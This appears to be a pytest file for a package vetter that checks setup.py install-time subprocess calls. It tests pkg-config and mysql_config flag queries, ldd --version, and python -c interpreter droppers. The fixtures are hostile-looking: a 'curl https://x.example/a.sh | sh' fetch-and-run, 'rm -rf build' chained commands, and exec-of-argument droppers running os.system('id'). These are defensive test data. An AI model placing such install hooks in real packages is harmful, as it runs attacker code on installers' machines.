"""A build asking a library's configuration tool for its flags (issue 16, ADR 0136):
mysqlclient's setup.py runs ``pkg-config{static_opt} --cflags {pkg_name}`` (a conditional
``' --static'`` the flow pass does not fold) and held as a process started at install."""

from __future__ import annotations

import pytest

from airlock.domain.requests import Outcome
from airlock.imports.packages.vet import vet
from scripts.make_test_packages import sdist

ASKS = (
    "import subprocess, sys\n"
    "from setuptools import setup\n"
    "static = '--static' in sys.argv\n"
    "static_opt = ' --static' if static else ''\n"
    "def find_name():\n"
    "    for pkg in ['fastdb', 'libfastdb']:\n"
    "        subprocess.check_call(f'pkg-config --exists {pkg}', shell=True)\n"
    "        return pkg\n"
    "name = find_name()\n"
    "cflags = subprocess.check_output(f'pkg-config{static_opt} --cflags {name}', shell=True)\n"
    "libs = subprocess.check_output(['mysql_config', '--libs'], encoding='utf-8')\n"
    "setup(name='fastdb')\n"
)


def _vet(setup: str) -> Outcome:
    files = {"setup.py": setup, "fastdb/__init__.py": ""}
    return vet("fastdb-1.0.tar.gz", sdist("fastdb", "1.0", files)).verdict


def test_a_library_config_tool_asked_for_flags_at_install_is_allowed() -> None:
    assert _vet(ASKS) is Outcome.ALLOW


@pytest.mark.parametrize(
    "command",
    [
        # The tool named by the environment stays held (ADR 0130).
        "os.environ.get('PKG_CONFIG', 'pkg-config') + ' --libs fastdb'",
        # A file of the sdist run by its path.
        "'./tools/fast-config --libs'",
        # More than a question, through a shell.
        "'mysql_config --libs && rm -rf build'",
        "'mysql_config --libs > /tmp/out'",
        # Not a configuration tool.
        "'fastdb-installer --libs'",
    ],
)
def test_other_commands_at_install_still_hold(command: str) -> None:
    setup = (
        "import os, subprocess\n"
        "from setuptools import setup\n"
        f"subprocess.check_output({command}, shell=True)\n"
        "setup(name='fastdb')\n"
    )
    assert _vet(setup) is not Outcome.ALLOW


def test_a_download_run_after_a_config_query_is_denied() -> None:
    setup = (
        "import subprocess\n"
        "from setuptools import setup\n"
        "subprocess.call('pkg-config --libs x; curl https://x.example/a.sh | sh', shell=True)\n"
        "setup(name='fastdb')\n"
    )
    assert _vet(setup) is Outcome.DENY


def test_a_program_asked_its_version_at_install_is_allowed() -> None:
    # semgrep's setup.py tells musl from glibc by ``ldd --version``.
    setup = (
        "import subprocess\n"
        "from setuptools import setup\n"
        "out = subprocess.run(['ldd', '--version'], capture_output=True, text=True)\n"
        "setup(name='fastdb')\n"
    )
    assert _vet(setup) is Outcome.ALLOW


@pytest.mark.parametrize(
    "command",
    [
        "['./tools/ldd', '--version']",
        "'ldd --version; rm -rf build'",
        "['ldd', '--version', 'extra']",
        "[os.environ.get('LDD', 'ldd'), '--version']",
        "['fastdb-helper', '--install']",
    ],
)
def test_more_than_a_version_asked_still_holds(command: str) -> None:
    setup = (
        "import os, subprocess\n"
        "from setuptools import setup\n"
        f"subprocess.run({command}, shell=True)\n"
        "setup(name='fastdb')\n"
    )
    assert _vet(setup) is not Outcome.ALLOW


# The coordinator's review: an interpreter whose ``-c`` code runs what it is handed. Spelt
# ``python3`` it was denied; spelt ``sys.executable`` it was a build tool, and allowed.
HANDED = {
    "argv": (
        "import subprocess, sys\n"
        "subprocess.run([sys.executable, '-c', 'import sys; exec(sys.argv[1])',"
        " 'import os; os.system(\"id\")'])\n"
    ),
    "stdin": (
        "import subprocess, sys\n"
        "subprocess.run([sys.executable, '-c', 'import sys; exec(sys.stdin.read())'],"
        " input=b'import os')\n"
    ),
    "eval-of-an-argument": (
        "import subprocess, sys\n"
        "subprocess.call([sys.executable, '-c', 'import sys; eval(compile(sys.argv[1], \"x\","
        " \"exec\"))', 'print(1)'])\n"
    ),
}


@pytest.mark.parametrize("case", sorted(HANDED))
def test_an_interpreter_running_what_it_is_handed_at_install_is_a_dropper(case: str) -> None:
    assert _vet(HANDED[case] + "from setuptools import setup\nsetup(name='fastdb')\n") is (
        Outcome.DENY
    )


@pytest.mark.parametrize(
    "setup",
    [
        (
            "import subprocess, sys\n"
            "subprocess.run([sys.executable, '-c', 'import sys; print(sys.argv)'])\n"
        ),
        (
            "import subprocess, sys\n"
            "subprocess.run([sys.executable, '-c', 'import numpy; print(numpy.get_include())'])\n"
        ),
    ],
)
def test_an_interpreter_asked_a_question_at_install_is_a_build_step(setup: str) -> None:
    assert _vet(setup + "from setuptools import setup\nsetup(name='fastdb')\n") is Outcome.ALLOW


def test_an_interpreter_fed_its_code_when_called_is_what_a_gateway_does() -> None:
    # execnet starts its workers so: ``python -c 'import sys;exec(eval(sys.stdin.readline()))'``.
    module = (
        "import subprocess, sys\n"
        "def start_worker():\n"
        "    return subprocess.Popen([sys.executable, '-c',"
        " 'import sys;exec(eval(sys.stdin.readline()))'], stdin=subprocess.PIPE)\n"
    )
    files = {"setup.py": "from setuptools import setup\nsetup(name='fastdb')\n"}
    report = vet("fastdb-1.0.tar.gz", sdist("fastdb", "1.0", {**files, "fastdb/gw.py": module}))
    assert report.verdict is Outcome.ALLOW, report.to_json()
